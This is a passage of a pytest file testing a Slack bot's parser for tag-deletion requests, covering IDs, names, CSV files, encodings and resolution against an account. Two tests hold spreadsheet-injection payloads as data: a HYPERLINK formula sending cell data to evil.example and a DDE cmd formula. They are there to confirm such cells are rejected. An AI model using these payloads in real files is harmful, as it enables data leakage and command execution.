"""bot.core.tags: command text, free text and file parsing, resolution against the account, batching."""

from __future__ import annotations

import codecs
import re
import sys
import uuid
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.core import resolver, tags
from bot.core.resolver import TagIndex, batches, resolve
from bot.core.tags import (
    USAGE,
    Command,
    InputError,
    Junk,
    Selection,
    parse_command,
    parse_file,
    parse_text,
)
from tests.core.test_purity import modules_imported

settings.register_profile("long", max_examples=10_000)
PROPERTY = settings(max_examples=max(300, settings.default.max_examples), deadline=None, database=None)

U1 = "0b9c1e2a-5f3d-4c1b-9a7e-1234567890ab"
U2 = "11111111-2222-3333-4444-555555555555"
U3 = "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee"
U4 = "12345678-90ab-cdef-1234-567890abcdef"
U5 = "fedcba98-7654-3210-fedc-ba9876543210"
QUOTE_HINT = 'not a tag id; put tag names in quotes, e.g. "Spring Promo"'
NO_HEADER_HINT = "no tag id in this line; to delete by name, add a header row `name`"
FORMULA = "spreadsheet formula, ignored (never evaluated)"
BINARY = (
    "The file is not plain text (it looks binary). Upload a .csv, .tsv or .txt file. "
    "In Excel use File › Save As › CSV UTF-8 and upload that file."
)


@dataclass(frozen=True)
class AccountTag:
    tag_id: str
    name: str
    contacts_count: int | None


def request(text: str) -> Command:
    command = parse_command(text)
    assert command.kind == "request", command
    return command


def selection_of(text: str) -> Selection:
    selection = request(text).selection
    assert selection is not None
    return selection


# ---------------------------------------------------------------- subcommands and kinds


@pytest.mark.parametrize("text", ["help", "HELP", "-h", "--help", "?", "  help  ", "help me"])
def test_help_variants(text: str) -> None:
    assert parse_command(text).kind == "help"


@pytest.mark.parametrize(
    ("text", "kind", "argument"),
    [
        ("status", "status", None),
        ("Status R-12", "status", "R-12"),
        ("list", "list", None),
        ("cancel 42", "cancel", "42"),
        ("cancel", "cancel", None),
        (f"list {U1}", "list", U1),
    ],
)
def test_subcommands_with_arguments(text: str, kind: str, argument: str | None) -> None:
    assert parse_command(text) == Command(kind, argument=argument)  # type: ignore[arg-type]


@pytest.mark.parametrize("text", ["", "   ", "\u200b", "\n\t", "\xa0"])
def test_empty_text_opens_the_modal(text: str) -> None:
    assert parse_command(text) == Command("modal")


def test_quoted_subcommand_word_is_a_tag_name() -> None:
    assert selection_of('"list"').names == ("list",)


def test_unknown_word_is_unknown_with_the_word() -> None:
    assert parse_command("stats") == Command("unknown", argument="stats")
    assert parse_command("Spring Promo") == Command("unknown", argument="Spring")


def test_unknown_word_is_made_safe_for_slack() -> None:
    assert parse_command("&lt;!channel&gt;`x`").argument == "&lt;!channel&gt;ˋxˋ"


def test_unquoted_words_next_to_an_id_are_junk_with_the_quote_hint() -> None:
    selection = selection_of(f'{U1} Spring Promo 2024, "Summer"')
    assert selection.ids == (U1,)
    assert selection.names == ("Summer",)
    assert selection.junk == (Junk(None, "Spring Promo 2024", QUOTE_HINT),)


def test_mistyped_id_alone_is_a_request_with_a_precise_reason() -> None:
    selection = selection_of(U1[:-1])
    assert selection.junk == (Junk(None, U1[:-1], "not a valid tag id: 35 characters, expected 36"),)


def test_words_with_a_reason_are_a_request() -> None:
    command = request("cleanup reason: old stuff")
    assert command.reason == "old stuff"
    assert command.selection == Selection(junk=(Junk(None, "cleanup", QUOTE_HINT),))


# ---------------------------------------------------------------- reasons


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (f"{U1} -- cleanup after campaign", "cleanup after campaign"),
        (f"{U1} reason: cleanup after campaign", "cleanup after campaign"),
        (f"{U1} REASON:cleanup", "cleanup"),
        (f"{U1}, Reason: x", "x"),
        (f"{U1}\nreason: on a new line", "on a new line"),
        (f"{U1} — em dash from a phone", "em dash from a phone"),
        (f'{U1} reason: the "old" ones -- really', 'the "old" ones -- really'),
        (f"{U1} -- reason: both", "reason: both"),
        (f"{U1} reason:", None),
        (f"{U1} --", None),
    ],
)
def test_reason_syntax(text: str, reason: str | None) -> None:
    command = request(text)
    assert command.reason == reason
    assert command.selection == Selection(ids=(U1,))


def test_the_full_example_from_the_usage_text() -> None:
    command = parse_command(f'{U1.upper()} "Spring Promo 2024" reason: cleanup after campaign')
    assert command == Command(
        "request", selection=Selection(ids=(U1,), names=("Spring Promo 2024",)), reason="cleanup after campaign"
    )


def test_reason_markers_inside_quotes_stay_in_names() -> None:
    command = request('"Promo reason: 2024" "A -- B" -- the real reason')
    assert command.selection == Selection(names=("Promo reason: 2024", "A -- B"))
    assert command.reason == "the real reason"


def test_reason_keyword_must_start_a_word() -> None:
    command = request(f"{U1} treason: x")
    assert command.reason is None
    assert command.selection is not None
    assert command.selection.junk == (Junk(None, "treason: x", QUOTE_HINT),)


# ---------------------------------------------------------------- ids and separators


def test_ids_in_any_case_braces_and_urn_prefix() -> None:
    text = f"{U1.upper()} {{{U2}}} urn:uuid:{U3} URN:UUID:{U4.upper()} {{{U5.upper()}}}"
    assert selection_of(text).ids == (U1, U2, U3, U4, U5)


def test_ids_in_backticks_and_angle_brackets() -> None:
    assert selection_of(f"`{U1}` &lt;{U2}&gt;").ids == (U1, U2)


@pytest.mark.parametrize("separator", [" ", ",", ";", "\t", "\n", "\r\n", "\r", ", ", " ; ", ",\n", "\xa0"])
def test_every_separator(separator: str) -> None:
    assert parse_text(separator.join([U1, U2, U3])) == Selection(ids=(U1, U2, U3))


def test_ids_without_any_separator_are_junk() -> None:
    shown = (U1 + U2)[:59] + "…"
    assert parse_text(U1 + U2).junk == (Junk(None, shown, "not a valid tag id: 72 characters, expected 36"),)


@pytest.mark.parametrize(
    ("token", "reason"),
    [
        (U1[:-1], "not a valid tag id: 35 characters, expected 36"),
        (U1 + "a", "not a valid tag id: 37 characters, expected 36"),
        ("0b9c1e2g-5f3d-4c1b-9a7e-1234567890ab", "not a valid tag id: contains 'g', not hexadecimal"),
        (U1.replace("-", ""), "not a valid tag id: 32 characters, expected 36 (the hyphens are missing)"),
        (
            "0b9c1e2a5-f3d-4c1b-9a7e-1234567890ab",
            "not a valid tag id: hyphens in the wrong places, expected 8-4-4-4-12",
        ),
        (U1 + ".", "not a valid tag id: contains '.', not hexadecimal"),
        (U1.replace("-", "\u2010", 1), "not a valid tag id: contains '\u2010', not hexadecimal"),
        ("{xyz}", "not a valid tag id: contains 'x', not hexadecimal"),
        ("urn:uuid:1234", "not a valid tag id: 4 characters, expected 36"),
        ("12345678", "not a valid tag id: 8 characters, expected 36"),
    ],
)
def test_almost_ids_are_junk_with_a_specific_reason(token: str, reason: str) -> None:
    assert parse_text(f"{U2} {token}") == Selection(ids=(U2,), junk=(Junk(None, token, reason),))


def test_zero_width_characters_and_nbsp_are_stripped() -> None:
    text = f"\u200b{U1}\u200b,\xa0\ufeff{U2[:9]}\u200d{U2[9:]}\u2060\xa0\"\u200bSpring Promo\u200c \xa0\" \u200c"
    assert parse_text(text) == Selection(ids=(U1, U2), names=("Spring Promo",))


def test_html_entities_are_decoded_once() -> None:
    selection = selection_of(f'&lt;{U1}&gt; "R&amp;D" "a&amp;lt;b"')
    assert selection == Selection(ids=(U1,), names=("R&D", "a&lt;b"))


def test_parse_text_does_not_decode_entities() -> None:
    assert parse_text('"R&amp;D"').names == ("R&amp;D",)


# ---------------------------------------------------------------- names


def test_quoted_names_with_commas_and_escaped_quotes() -> None:
    text = r'"Spring, Promo", "Say \"hi\"", "Say ""bye""",' + f"{U1}"
    assert parse_text(text) == Selection(ids=(U1,), names=("Spring, Promo", 'Say "hi"', 'Say "bye"'))


def test_curly_quotes_from_slack_clients() -> None:
    selection = parse_text("\u201cSpring, Promo\u201d \u201cMixed\" \u201dWrong way\u201d")
    assert selection.names == ("Spring, Promo", "Mixed", "Wrong way")


def test_curly_quotes_inside_a_straight_quoted_name_are_kept() -> None:
    assert parse_text('"The \u201cbest\u201d promo"').names == ("The \u201cbest\u201d promo",)


def test_names_are_trimmed_and_deduplicated_case_insensitively() -> None:
    selection = parse_text('"  Spring Promo " "spring  promo" "SPRING PROMO" "Summer"')
    assert selection == Selection(names=("Spring Promo", "Summer"), duplicates=2)


def test_unterminated_quote_ends_at_the_line_end() -> None:
    selection = parse_text(f'"Spring Promo, {U2}\n{U1}')
    assert selection == Selection(ids=(U1,), junk=(Junk(1, f'"Spring Promo, {U2}', "missing closing quote"),))


def test_empty_and_overlong_names_are_junk() -> None:
    long_name = "x" * 256
    selection = parse_text(f'"" "  " "{long_name}" "{"y" * 255}"')
    assert selection.names == ("y" * 255,)
    assert [junk.reason for junk in selection.junk] == [
        "empty name",
        "empty name",
        "name longer than 255 characters, the Constant Contact limit",
    ]
    assert selection.junk[2].text == "x" * 59 + "…"


def test_junk_has_line_numbers_only_in_multi_line_text() -> None:
    assert parse_text("nope").junk[0].line is None
    assert [junk.line for junk in parse_text(f"{U1}\n\nnope\r\n{U2} bad-{U3}").junk] == [3, 4]


# ---------------------------------------------------------------- selection


def test_duplicates_are_counted_and_first_seen_order_kept() -> None:
    selection = parse_text(f"{U2} {U1} {{{U2.upper()}}} urn:uuid:{U1} {U3} {U2}")
    assert selection == Selection(ids=(U2, U1, U3), duplicates=3)
    assert selection.entry_count == 3


def test_over_the_entry_limit() -> None:
    text = " ".join(str(uuid.UUID(int=number)) for number in range(5123))
    with pytest.raises(InputError) as raised:
        parse_text(text)
    assert raised.value.message == (
        "The list has 5,123 tag entries; the limit is 5,000 per request. Split it into several requests."
    )
    assert str(raised.value) == raised.value.message


def test_entry_limit_counts_distinct_ids_and_names() -> None:
    assert parse_text(f'{U1} {U1} "a" "A"', max_entries=2).entry_count == 2
    with pytest.raises(InputError, match=r"^The list has 3 tag entries; the limit is 2 per request\."):
        parse_text(f'{U1} {U2} "a"', max_entries=2)
    with pytest.raises(InputError, match="the limit is 1 per"):
        parse_command(f"{U1} {U2}", max_entries=1)


def test_combine_deduplicates_across_sources_and_rechecks_the_limit() -> None:
    from_text = parse_text(f'{U1} {U1} "Spring" nope')
    from_file = parse_file(f"name,tag_id\n,{U1.upper()}\nspring,\nSummer,\n,bad\n".encode(), filename="a.csv")
    combined = tags.combine(from_text, from_file)
    assert combined.ids == (U1,)
    assert combined.names == ("Spring", "Summer")
    assert combined.duplicates == 3
    assert [junk.text for junk in combined.junk] == ["nope", "bad"]
    with pytest.raises(InputError, match="^The list has 3 tag entries; the limit is 2 per request"):
        tags.combine(from_text, from_file, max_entries=2)


def test_problem_for_an_empty_selection() -> None:
    assert parse_text("").problem() == "No tag ids or names found. Type `/deletetags help` for the format."
    assert parse_text(U1).problem() is None


def test_problem_lists_the_junk() -> None:
    selection = parse_text(f"{U1[:-1]}\nhello")
    assert selection.is_empty
    assert selection.problem() == (
        "No tag ids or names found. These entries were not used:\n"
        f"• line 1: `{U1[:-1]}` — not a valid tag id: 35 characters, expected 36\n"
        f"• line 2: `hello` — {QUOTE_HINT}\n"
        "Type `/deletetags help` for the format."
    )


def test_junk_summary_limits_and_counts_the_rest() -> None:
    selection = parse_text(", ".join(f"bad{number}" for number in range(8)))
    assert len(selection.junk) == 8
    assert selection.junk_summary(limit=2) == (
        f"• `bad0` — {QUOTE_HINT}\n• `bad1` — {QUOTE_HINT}\n…and 6 more"
    )
    assert selection.junk_summary(limit=8).count("\n") == 7
    assert Selection().junk_summary() == ""


def test_junk_is_shown_harmlessly() -> None:
    junk = Junk(3, tags.clean_junk_text("<!channel>\n`rm` &\u202e" + "z" * 80), "contains '<', not hexadecimal")
    assert junk.text == "<!channel> `rm` &" + "z" * 42 + "…"
    shown = junk.display()
    assert shown == "line 3: `&lt;!channel&gt; ˋrmˋ &amp;" + "z" * 42 + "…` — contains '&lt;', not hexadecimal"
    assert "<" not in shown and ">" not in shown and shown.count("`") == 2


# ---------------------------------------------------------------- files: content


def test_headerless_plain_text_file() -> None:
    data = f"# tags to delete\n{U1}\r\n\r\n{U2.upper()}\r\n   # indented comment\r\n{{{U3}}}\r\n{U1}\r\n".encode()
    assert parse_file(data, filename="tags.txt") == Selection(ids=(U1, U2, U3), duplicates=1)


def test_headerless_rows_without_ids_are_junk_with_the_header_hint() -> None:
    data = f'{U1}\nSpring Promo\n"Summer"\n{U2},Promo,12\n'.encode()
    selection = parse_file(data, filename="tags.csv")
    assert selection.ids == (U1, U2)
    assert selection.names == ()
    assert selection.junk == (Junk(2, "Spring Promo", NO_HEADER_HINT), Junk(3, '"Summer"', NO_HEADER_HINT))


def test_headerless_rows_use_every_uuid_cell_and_report_almost_ids() -> None:
    data = f"{U1},{U2} {U3},x\n{U4},{U5[:-2]}\n".encode()
    selection = parse_file(data, filename="tags.csv")
    assert selection.ids == (U1, U2, U3, U4)
    assert selection.junk == (Junk(2, U5[:-2], "not a valid tag id: 34 characters, expected 36"),)


def test_csv_with_id_header() -> None:
    data = f"Tag ID,Contacts\n{U1},12\n{U2.upper()},3\nnot-an-id,1\n,4\n".encode()
    selection = parse_file(data, filename="export.csv")
    assert selection.ids == (U1, U2)
    assert selection.junk == (
        Junk(4, "not-an-id", "not a valid tag id: contains 'n', not hexadecimal"),
        Junk(5, ",4", "no tag id in this row"),
    )


@pytest.mark.parametrize("header", ["tag_id", "ID", " Tag Id ", "tagid", "UUID"])
def test_id_header_spellings(header: str) -> None:
    assert parse_file(f"{header}\n{U1}\n".encode(), filename="a.csv").ids == (U1,)


@pytest.mark.parametrize("header", ["name", "Tag_Name", "tag name", "TAG"])
def test_name_header_spellings(header: str) -> None:
    assert parse_file(f"{header}\nSpring Promo\n".encode(), filename="a.csv").names == ("Spring Promo",)


def test_csv_with_id_and_name_columns() -> None:
    data = (
        "name,tag_id,contacts\n"
        f"Spring Promo,{U1},12\n"
        'Summer "24",,3\n'
        f"Ignored name,{U2[:-1]},1\n"
        ",,\n"
        ",,7\n"
    ).encode()
    selection = parse_file(data, filename="tags.csv")
    assert selection.ids == (U1,)
    assert selection.names == ('Summer "24"',)
    assert selection.junk == (
        Junk(4, U2[:-1], "not a valid tag id: 35 characters, expected 36"),
        Junk(6, ",,7", "no tag id or name in this row"),
    )


def test_name_column_only_and_quoted_fields() -> None:
    data = 'name\n"Spring, Promo"\n "Say ""hi"""\nPlain\n\n"unterminated, x\nspring, promo\n'.encode()
    selection = parse_file(data, filename="names.csv")
    assert selection.names == ("Spring, Promo", 'Say "hi"', "Plain")
    assert [(junk.line, junk.reason[:20]) for junk in selection.junk] == [
        (6, "missing closing quot"),
        (7, "more cells than the "),
    ]


def test_name_column_one_cell_per_row_keeps_commas_when_quoted() -> None:
    data = 'tag_name;id\n"Spring, Promo";\nspring,  promo;\n'.encode()
    selection = parse_file(data, filename="names.csv")
    assert selection == Selection(names=("Spring, Promo",), duplicates=1)


@pytest.mark.parametrize("delimiter", [";", "\t", ","])
def test_delimiters_are_sniffed(delimiter: str) -> None:
    rows = [["name", "tag_id"], ["A, b", U1], ["C", ""], ["", U2]]
    text = "\n".join(delimiter.join(f'"{cell}"' if "," in cell else cell for cell in row) for row in rows)
    assert parse_file(text.encode(), filename="t.txt") == Selection(ids=(U1, U2), names=("C",))


def test_unquoted_name_with_the_delimiter_is_never_cut_short() -> None:
    data = 'name\nSpring, Promo\n"Spring, Promo"\nSpring,\n'.encode()
    selection = parse_file(data, filename="names.csv")
    assert selection.names == ("Spring, Promo", "Spring")
    assert selection.junk == (
        Junk(
            2,
            "Spring, Promo",
            "more cells than the header row has columns; put a name that contains a comma in double quotes",
        ),
    )


def test_extra_cells_in_a_semicolon_file() -> None:
    data = f"tag_id;name\n{U1};A;B\n{U2};C;\n".encode()
    selection = parse_file(data, filename="t.csv")
    assert selection.ids == (U2,)
    assert selection.junk[0].reason.endswith("contains a semicolon in double quotes")


def test_tsv_extension_means_tabs() -> None:
    data = f"name\tid\nA, B; C\t\n\t{U1}\n".encode()
    assert parse_file(data, filename="tags.TSV") == Selection(ids=(U1,), names=("A, B; C",))


def test_formula_cells_are_junk_and_never_evaluated() -> None:
    data = (
        f'=HYPERLINK("http://evil.example/?q="&A1;"click")\n{U1}\n+1-2\n-{U2}\n@SUM(A1)\n'
        f"name\n"
    ).encode()
    selection = parse_file(data, filename="evil.csv")
    assert selection.ids == (U1,)
    assert [junk.reason for junk in selection.junk] == [
        FORMULA,
        FORMULA,
        "not a valid tag id: starts with '-'",
        FORMULA,
        NO_HEADER_HINT,
    ]
    assert all(tags.quote_for_slack(junk.text).count("`") == 2 for junk in selection.junk)


def test_formula_in_a_name_column() -> None:
    selection = parse_file(b"name\n=cmd|' /C calc'!A0\n@home\nOK\n", filename="n.csv")
    assert selection.names == ("OK",)
    assert [junk.reason for junk in selection.junk] == [tags.FORMULA_NAME_REASON] * 2
    assert tags.FORMULA_NAME_REASON.endswith("to delete a tag whose name starts with =, +, - or @, use its id")


def test_a_first_row_with_a_uuid_is_never_a_header() -> None:
    assert parse_file(f"{U1},name\n{U2},tag\n".encode(), filename="a.csv").ids == (U1, U2)


def test_only_comments_and_blank_lines_give_an_empty_selection() -> None:
    selection = parse_file(b"# nothing here\n\n   \n#\n", filename="a.txt")
    assert selection == Selection()
    assert selection.problem() == "No tag ids or names found. Type `/deletetags help` for the format."


def test_only_junk_file_problem_message() -> None:
    data = b"tag_id\nhello\n" + b"nope\n" * 7
    selection = parse_file(data, filename="a.csv")
    problem = selection.problem()
    assert problem is not None
    assert problem.startswith(
        "No tag ids or names found. These entries were not used:\n"
        "• line 2: `hello` — not a valid tag id: contains 'h', not hexadecimal\n"
    )
    assert "…and 3 more\nType `/deletetags help` for the format." in problem


def test_file_entry_limit() -> None:
    data = "\n".join(str(uuid.UUID(int=number)) for number in range(5123)).encode()
    with pytest.raises(InputError) as raised:
        parse_file(data, filename="big.txt")
    assert raised.value.message == (
        "The list has 5,123 tag entries; the limit is 5,000 per request. Split it into several requests."
    )


def test_plain_ids_and_other_spellings_in_one_file() -> None:
    data = (
        f"name,tag_id\n,{U1}\n# {U2},{U2}\nA,{U3}\nB,{U4.upper()}\nC,{{{U5}}}\nD,{U1}\n"
        f"E,\u200b{U2}\nF,{U3},x\n"
    ).encode()
    selection = parse_file(data, filename="tags.csv")
    assert selection.ids == (U1, U3, U4, U5, U2)
    assert (selection.names, selection.duplicates) == ((), 1)
    assert [(junk.line, junk.reason[:26]) for junk in selection.junk] == [(9, "more cells than the header")]


def test_plain_ids_next_to_other_cells_without_a_header() -> None:
    data = f"{U1}\n{U2};{U3.upper()} x\n {U4}\n{U1[:-1]}\n".encode()
    selection = parse_file(data, filename="ids.txt")
    assert selection.ids == (U1, U2, U3, U4)
    assert selection.junk == (Junk(4, U1[:-1], "not a valid tag id: 35 characters, expected 36"),)


def test_a_very_long_line_of_ids_is_read() -> None:
    ids = [str(uuid.UUID(int=number)) for number in range(4000)]
    assert parse_file(" ".join(ids).encode(), filename="one-line.txt").ids == tuple(ids)


# ---------------------------------------------------------------- files: encodings


def test_utf8_with_bom_and_crlf() -> None:
    data = codecs.BOM_UTF8 + f"name,tag_id\r\nCafé,\r\n,{U1}\r\n".encode()
    assert parse_file(data, filename="a.csv") == Selection(ids=(U1,), names=("Café",))


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_with_bom(encoding: str) -> None:
    text = f"name\ttag_id\r\nCafé ☕\t\r\n\t{U1}\r\n"
    bom = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE}.get(encoding, b"")
    data = bom + text.encode(encoding)
    assert parse_file(data, filename="a.txt") == Selection(ids=(U1,), names=("Café ☕",))


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf16_without_bom_is_detected(encoding: str) -> None:
    data = f"{U1}\n{U2}\n".encode(encoding)
    assert parse_file(data, filename="a.txt").ids == (U1, U2)


def test_windows_1252_fallback() -> None:
    data = "name\nCafé “Promo”\n".encode("cp1252")
    assert parse_file(data, filename="a.csv").names == ("Café \u201cPromo\u201d",)


def test_latin1_fallback_when_not_windows_1252_either() -> None:
    data = b"name\nCaf\xe9\nNa\x81ve \x93\n"
    assert parse_file(data, filename="a.csv").names == ("Café", "Na\x81ve \x93")


def test_old_mac_line_endings() -> None:
    assert parse_file(f"{U1}\r{U2}\r".encode(), filename="a.txt").ids == (U1, U2)


# ---------------------------------------------------------------- files: refused


@pytest.mark.parametrize("filename", ["tags.csv", "tags.TXT", "tags.tsv", "tags", "dir/tags.csv", ".csv", "tags."])
def test_accepted_file_names(filename: str) -> None:
    assert parse_file(U1.encode(), filename=filename).ids == (U1,)


def test_unsupported_extension() -> None:
    with pytest.raises(InputError) as raised:
        parse_file(U1.encode(), filename="tags.pdf")
    assert raised.value.message == (
        ".pdf files are not supported. Upload a .csv, .tsv or .txt file (or one without an extension)."
    )


def test_spreadsheet_extension_gets_the_save_as_hint() -> None:
    with pytest.raises(InputError) as raised:
        parse_file(b"PK\x03\x04", filename="Tags.XLSX")
    assert raised.value.message == (
        ".xlsx files are not supported. Upload a .csv, .tsv or .txt file (or one without an extension). "
        "In Excel use File › Save As › CSV UTF-8 and upload that file."
    )


def test_odd_extension_is_not_echoed() -> None:
    with pytest.raises(InputError, match=r"^This file type is not supported\."):
        parse_file(b"x", filename="tags.<!here>")


@pytest.mark.parametrize("data", [b"", b"   \r\n\t ", codecs.BOM_UTF8, codecs.BOM_UTF16_LE])
def test_empty_file(data: bytes) -> None:
    with pytest.raises(InputError) as raised:
        parse_file(data, filename="a.csv")
    assert raised.value.message == "The file is empty."


def test_oversize_file() -> None:
    with pytest.raises(InputError) as raised:
        parse_file(b"a" * 20_000_000, filename="a.csv")
    assert raised.value.message == "The file is 20.0 MB; the limit is 5.0 MB. Split it into smaller files."


def test_oversize_rounds_the_size_up_and_the_limit_down() -> None:
    with pytest.raises(InputError) as raised:
        parse_file(b"a" * 5_000_001, filename="a.csv")
    assert raised.value.message == "The file is 5.1 MB; the limit is 5.0 MB. Split it into smaller files."
    with pytest.raises(InputError) as raised:
        parse_file(b"a" * 1_501, filename="a.csv", max_bytes=999)
    assert raised.value.message == "The file is 1.6 KB; the limit is 999 bytes. Split it into smaller files."


def test_file_at_the_size_limit_is_accepted() -> None:
    data = U1.encode()
    assert parse_file(data, filename="a.txt", max_bytes=len(data)).ids == (U1,)


@pytest.mark.parametrize(
    "data",
    [
        bytes(range(256)) * 4,
        b"\x00\x01\x02\x03" * 100,
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200),
        codecs.BOM_UTF8 + b"\xff\xfe\xfd",
        codecs.BOM_UTF16_LE + b"\x00\xd8",  # a lone surrogate
        b"id\n" + b"\x01\x02\x03\x04" * 10,
    ],
)
def test_binary_files(data: bytes) -> None:
    with pytest.raises(InputError) as raised:
        parse_file(data, filename="a.csv")
    assert raised.value.message == BINARY


def test_zip_or_workbook_renamed_to_csv() -> None:
    with pytest.raises(InputError) as raised:
        parse_file(b"PK\x03\x04\x14\x00\x06\x00" + bytes(100), filename="tags.csv")
    assert raised.value.message == (
        "The file looks like an Excel workbook or a ZIP archive, not a CSV. "
        "In Excel use File › Save As › CSV UTF-8 and upload that file."
    )


@pytest.mark.parametrize(
    "data",
    [
        b"<!DOCTYPE html>\n<html lang='en'><head><title>Slack</title>",
        codecs.BOM_UTF8 + b"\r\n  <html><body>Sign in to Slack</body></html>",
        b"<!doctype HTML>",
        "\ufeff<html>".encode("utf-16"),
    ],
)
def test_html_sign_in_page(data: bytes) -> None:
    with pytest.raises(InputError) as raised:
        parse_file(data, filename="tags.csv")
    assert raised.value.message == (
        "The file is a web page (HTML), not a CSV or text file. It looks like a Slack sign-in page, "
        "which means the bot could not download the file. Upload it again; if this keeps happening, "
        "ask an admin to check that the bot has the files:read permission."
    )


# ---------------------------------------------------------------- resolve

SPRING = AccountTag(U1, "Spring Promo 2024", 120)
SUMMER = AccountTag(U2, "Summer", None)
PROMO = AccountTag(U3, "Promo", 5)
PROMO_UPPER = AccountTag(U4, "PROMO", 7)
CAFE = AccountTag(U5.upper(), "Caf\u00e9", 3)
ACCOUNT = [SPRING, SUMMER, PROMO, PROMO_UPPER, CAFE]


def test_resolve_by_id_and_name() -> None:
    selection = Selection(ids=(U2, U5), names=("  spring   PROMO 2024 ",))
    resolution = resolve(selection, ACCOUNT)
    assert resolution.tags == (
        resolver.ResolvedTag(U2, "Summer", None, "id"),
        resolver.ResolvedTag(U5, "Caf\u00e9", 3, "id"),
        resolver.ResolvedTag(U1, "Spring Promo 2024", 120, "name"),
    )
    assert resolution.total_contacts == 123
    assert not resolution.counts_complete
    assert resolution.tag_ids == (U2, U5, U1)
    assert (resolution.unknown_ids, resolution.unknown_names, resolution.ambiguous) == ((), (), ())


def test_names_match_after_unicode_normalisation() -> None:
    resolution = resolve(Selection(names=("CAFE\u0301",)), ACCOUNT)
    assert resolution.tags == (resolver.ResolvedTag(U5, "Caf\u00e9", 3, "name"),)


def test_ambiguous_name_is_never_selected() -> None:
    resolution = resolve(Selection(names=("promo",)), ACCOUNT)
    assert resolution.tags == ()
    assert resolution.ambiguous == (resolver.Ambiguity("promo", (PROMO, PROMO_UPPER)),)


def test_unknown_ids_and_names() -> None:
    unknown = str(uuid.UUID(int=7))
    resolution = resolve(Selection(ids=(unknown, U1), names=("Winter", "Summer")), ACCOUNT)
    assert resolution.unknown_ids == (unknown,)
    assert resolution.unknown_names == ("Winter",)
    assert resolution.tag_ids == (U1, U2)


def test_id_and_name_of_the_same_tag_count_as_a_duplicate() -> None:
    selection = Selection(ids=(U1, U3), names=("Spring Promo 2024", "summer"), duplicates=2)
    resolution = resolve(selection, ACCOUNT)
    assert resolution.tag_ids == (U1, U3, U2)
    assert resolution.duplicates == 3
    assert resolution.total_contacts == 125


def test_resolve_totals_and_batch_count() -> None:
    account = [AccountTag(str(uuid.UUID(int=number)), f"Tag {number}", number) for number in range(1201)]
    selection = Selection(ids=tuple(tag.tag_id for tag in account))
    resolution = resolve(selection, account)
    assert resolution.total_contacts == sum(range(1201))
    assert resolution.counts_complete
    assert resolution.batch_count() == 3
    assert resolution.batch_count(batch_size=1201) == 1
    assert resolve(Selection(), account).batch_count() == 0


def test_tag_index_resolves_like_the_list() -> None:
    index = TagIndex.of(ACCOUNT)
    selections = [
        Selection(ids=(U2, U5), names=("  spring   PROMO 2024 ",)),
        Selection(ids=(str(uuid.UUID(int=7)), U1), names=("Winter", "Summer", "promo", "CAFE\u0301")),
    ]
    for selection in selections:
        assert resolve(selection, index) == resolve(selection, ACCOUNT)


def test_tag_index_counts_an_id_listed_twice_once() -> None:
    again = AccountTag(f" {U1.upper()}", "Other name", 1)
    index = TagIndex.of([SPRING, again, SUMMER])
    assert dict(index.by_id) == {U1: SPRING, U2: SUMMER}
    assert resolve(Selection(names=("other name",)), index).unknown_names == ("other name",)
    assert resolve(Selection(ids=(U1,)), index).tags == (resolver.ResolvedTag(U1, "Spring Promo 2024", 120, "id"),)


def test_resolve_parsed_text_end_to_end() -> None:
    command = parse_command(f'{U1.upper()} "promo" "summer" "Nope" {U1} reason: tidy')
    assert command.selection is not None
    resolution = resolve(command.selection, ACCOUNT)
    assert resolution.tag_ids == (U1, U2)
    assert resolution.unknown_names == ("Nope",)
    assert [ambiguity.name for ambiguity in resolution.ambiguous] == ["promo"]
    assert resolution.duplicates == 1


# ---------------------------------------------------------------- batches


def test_batches() -> None:
    ids = [str(uuid.UUID(int=number)) for number in range(1001)]
    result = batches(ids)
    assert [len(batch) for batch in result] == [500, 500, 1]
    assert [tag_id for batch in result for tag_id in batch] == ids
    assert batches([], 500) == []
    assert batches(["a", "b", "c"], size=2) == [["a", "b"], ["c"]]
    with pytest.raises(ValueError):
        batches(ids, size=0)


# ---------------------------------------------------------------- usage and purity


def test_usage_text() -> None:
    assert len(USAGE) < 2500
    for needle in [
        'reason:', "` -- `", '"Spring Promo 2024"', "`{…}`", "`urn:uuid:`", "commas, semicolons, tabs or new lines",
        "`/deletetags` alone opens a form", "CSV/TXT", "direct message", "status [request-id]", "`/deletetags list`",
        "cancel &lt;request-id&gt;", "5,000 tags per request", "5.0 MB", "batches of 500", "preview",
        "an approver must approve", "Nothing is deleted until",
    ]:
        assert needle in USAGE, needle
    assert "<" not in USAGE and ">" not in USAGE


def test_usage_reflects_configured_limits() -> None:
    assert "200 tags per request, files up to 1.5 MB" in tags.usage(max_entries=200, max_file_bytes=1_500_000)


def test_trimmed_characters_are_exactly_whitespace_and_zero_width() -> None:
    whitespace = {chr(code) for code in range(sys.maxunicode + 1) if chr(code).isspace()}
    assert set(tags._WHITESPACE) == whitespace == {char for char in whitespace if re.fullmatch(r"\s", char)}
    assert tags._trim("\u200b \ufeff\u3000 a \u2060\x85\u200b") == "a"


PURE_NEIGHBOURS = {"bot.core.mrkdwn", "bot.core.rules"}  # pure modules of the bot that the parser may use


def imports_of(path: str) -> set[str]:
    """Top-level modules imported, except the bot's pure neighbours, named whole."""
    return {name if name in PURE_NEIGHBOURS else name.split(".")[0] for name in modules_imported(Path(path))}


def test_module_imports_only_the_standard_library() -> None:
    # bot.core.mrkdwn (the rule for outside text in Slack) and bot.core.rules (what a rule's first word is) are
    # the modules of the bot it may use; they import only the standard library and each other.
    from bot.core import mrkdwn, rules

    stdlib = set(sys.stdlib_module_names) | {"__future__"}
    imported = imports_of(tags.__file__)
    assert imported and imported <= stdlib | PURE_NEIGHBOURS
    assert imports_of(mrkdwn.__file__) <= stdlib
    assert imports_of(rules.__file__) <= stdlib | {"bot.core.mrkdwn"}


# ---------------------------------------------------------------- properties

FRAGMENTS = [
    U1, U2.upper(), U3[:-1], "{", "}", "urn:uuid:", '"', "\u201c", "\u201d", '\\"', '""', " ", ",", ";", "\t", "\n",
    "\r\n", "\r", "reason:", "REASON:", " -- ", "--", "\u2014", "&amp;", "&lt;", "&gt;", "help", "status", "list",
